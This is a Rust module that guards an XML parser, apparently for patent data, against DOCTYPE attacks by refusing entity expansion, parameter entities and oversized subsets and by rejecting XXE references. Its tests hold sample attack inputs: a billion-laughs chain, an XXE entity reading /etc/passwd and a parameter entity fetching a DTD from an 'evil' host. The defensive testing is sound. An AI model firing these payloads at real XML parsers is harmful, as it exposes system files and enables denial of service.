//! The DOCTYPE guard. External DTDs are never fetched. An internal subset may declare simple
//! entities (their text is used) and unparsed `NDATA` entities (images, ignored); it is refused
//! when an entity's value references another entity (the "billion laughs" expansion), when a
//! parameter entity is declared, or when the declarations are too large. External parsed
//! entities (`SYSTEM`/`PUBLIC` without `NDATA`, the XXE pattern) are recorded so that a
//! reference to one is rejected, never resolved.

use std::collections::HashMap;

/// Largest internal subset accepted, in bytes.
const MAX_INTERNAL_SUBSET: usize = 1 << 20;

/// What a DOCTYPE declares.
#[derive(Debug, Default)]
pub struct Doctype {
    /// Root element name given by the DOCTYPE.
    pub root: String,
    /// System identifier (DTD file name), e.g. `us-patent-grant-v45-2014-04-03.dtd`.
    pub system_id: Option<String>,
    /// Internal entities with literal text.
    pub entities: HashMap<String, String>,
    /// Declared external parsed entities: referencing one is an error.
    pub external: Vec<String>,
}

/// Why a DOCTYPE was refused.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Refused(pub String);

/// Reads the content of `<!DOCTYPE …>` (without the keyword and closing `>`).
///
/// # Errors
/// [`Refused`] for expanding, parameter or oversized entity declarations.
pub fn inspect(content: &str) -> Result<Doctype, Refused> {
    let content = content.trim();
    let (head, subset) = match content.find('[') {
        Some(i) => (&content[..i], Some(content[i + 1..].trim_end().trim_end_matches(']'))),
        None => (content, None),
    };
    let mut words = head.split_whitespace();
    let mut doctype = Doctype { root: words.next().unwrap_or_default().to_owned(), ..Doctype::default() };
    doctype.system_id = quoted_strings(head).last().map(|s| (*s).to_owned());
    let Some(subset) = subset else { return Ok(doctype) };
    if subset.len() > MAX_INTERNAL_SUBSET {
        return Err(Refused(format!("internal DTD subset of {} bytes exceeds {MAX_INTERNAL_SUBSET}", subset.len())));
    }
    for decl in subset.split("<!ENTITY").skip(1) {
        let decl = decl.trim_start();
        if decl.starts_with('%') {
            return Err(Refused("the internal DTD declares a parameter entity; refused".into()));
        }
        let name_end = decl.find(char::is_whitespace).unwrap_or(decl.len());
        let name = decl[..name_end].to_owned();
        let body = &decl[name_end..decl.find('>').unwrap_or(decl.len())];
        let trimmed = body.trim_start();
        if trimmed.starts_with("SYSTEM") || trimmed.starts_with("PUBLIC") {
            if !body.contains("NDATA") {
                doctype.external.push(name);
            }
            continue;
        }
        let value = quoted_strings(body).first().copied().unwrap_or_default();
        if value.contains('&') && super::entities::decode_char_refs(value).is_none() {
            return Err(Refused(format!("entity &{name}; expands other entities (entity-expansion attack); refused")));
        }
        let text = super::entities::decode_char_refs(value).unwrap_or_else(|| value.to_owned());
        doctype.entities.insert(name, text);
    }
    Ok(doctype)
}

fn quoted_strings(s: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut rest = s;
    while let Some(i) = rest.find(['"', '\'']) {
        let q = rest.as_bytes()[i] as char;
        let Some(len) = rest[i + 1..].find(q) else { break };
        out.push(&rest[i + 1..i + 1 + len]);
        rest = &rest[i + 2 + len..];
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_doctypes() {
        let d = inspect(r#"us-patent-grant SYSTEM "us-patent-grant-v45-2014-04-03.dtd" [ ]"#).unwrap();
        assert_eq!(d.root, "us-patent-grant");
        assert_eq!(d.system_id.as_deref(), Some("us-patent-grant-v45-2014-04-03.dtd"));
        let d = inspect(r#"PATDOC SYSTEM "ST32-US-Grant-025xml.dtd" [<!ENTITY US06530116-20030311-D00000 SYSTEM "US06530116-20030311-D00000.TIF" NDATA TIF>]"#).unwrap();
        assert!(d.external.is_empty() && d.entities.is_empty());
    }

    #[test]
    fn hostile_doctypes() {
        let laughs = r#"lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]"#;
        assert!(inspect(laughs).unwrap_err().0.contains("&lol2;"));
        let xxe = inspect(r#"foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]"#).unwrap();
        assert_eq!(xxe.external, ["xxe"]);
        assert!(inspect(r#"foo [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]"#).is_err());
        let ok = inspect(r#"foo [<!ENTITY co "ACME &#x26; Co">]"#).unwrap();
        assert_eq!(ok.entities["co"], "ACME & Co");
    }
}
